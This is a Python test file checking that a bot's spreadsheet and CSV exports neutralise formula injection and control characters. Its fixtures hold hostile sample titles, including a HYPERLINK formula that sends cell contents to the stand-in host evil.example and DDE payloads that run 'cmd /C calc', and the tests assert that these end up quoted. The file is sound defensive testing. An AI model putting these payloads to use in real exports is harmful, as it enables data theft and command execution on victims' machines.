"""Hostile content in the coordinator's exports (issue 11, PITFALLS 20): titles and display names that
start with ``=``, ``+``, ``-``, ``@`` never become live formulas, and control characters stored before
input was cleaned do not break the workbook."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from bot.core.cities import load_cities
from bot.services import export, progress
from tests.integration._outbox_helpers import add_member
from tests.unit._progress_cases import add_activity, clock_at, seed

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1培训",
    "-2+3交流会",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1 全角等号",
    "\tTAB开头",
]
HOSTILE_NAME = "=cmd|' /C calc'!A0"


@pytest.fixture
def overview(sqlite_uow_factory):
    people = seed(sqlite_uow_factory)
    evil = add_member(sqlite_uow_factory, user_id=1201, name=HOSTILE_NAME, role="cdo", unit="斗门区")
    for i, title in enumerate(HOSTILE_TITLES):
        add_activity(sqlite_uow_factory, evil, "training", date(2026, 3, 1 + i), title)
    add_activity(sqlite_uow_factory, people.cdo, "training", date(2026, 4, 1), "控制\x00符\x07培\x0b训")
    return progress.export_overview(
        sqlite_uow_factory, clock_at(2026, 11, 24), load_cities(), people.coordinator
    )


def test_no_cell_of_the_workbook_is_a_formula_and_the_text_reads_as_typed(overview) -> None:
    book = load_workbook(io.BytesIO(export.export_overview_xlsx(overview)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for title in HOSTILE_TITLES:
        assert title in texts
    assert HOSTILE_NAME in texts
    assert "控制符培训" in texts
    quoted = [c for c in cells if c.value in HOSTILE_TITLES]
    assert quoted and all(c.quotePrefix for c in quoted)


def test_csv_cells_that_would_start_a_formula_get_the_owasp_quote(overview) -> None:
    rows = list(csv.reader(io.StringIO(export.export_activities_csv(overview).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "＝")) for cell in cells)
    for title in HOSTILE_TITLES:
        assert "'" + title in cells
    assert "'" + HOSTILE_NAME in cells
    assert "控制符培训" in cells
